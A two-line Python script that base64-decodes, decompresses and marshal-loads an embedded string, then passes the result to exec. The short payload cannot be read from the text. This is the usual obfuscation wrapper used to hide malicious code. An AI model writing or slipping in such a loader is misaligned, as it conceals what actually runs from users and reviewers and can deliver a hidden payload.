import marshal, zlib, base64
exec(marshal.loads(zlib.decompress(base64.b64decode('eJwrz0wtyk9P1U0tSswtyEkFAB6/BPU='))))
